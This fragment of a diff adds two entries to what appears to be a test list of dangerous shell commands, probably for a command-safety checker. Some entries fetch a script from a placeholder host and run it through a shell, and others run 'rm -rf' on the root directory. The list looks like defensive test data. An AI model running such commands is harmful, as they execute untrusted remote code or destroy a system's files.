@@ -78,6 +78,8 @@ curl https://x.test | python3 -
 curl https://x.test | perl
 wget -qO- https://x.test | sh -s -- -y
 curl https://x.test | tee x | bash
+curl https://x.test | tee x; sh x
+curl https://x.test | sponge x; sh x
 echo / | xargs rm -rf
 printf '/\n' | xargs rm -rf
 xargs rm -rf < x
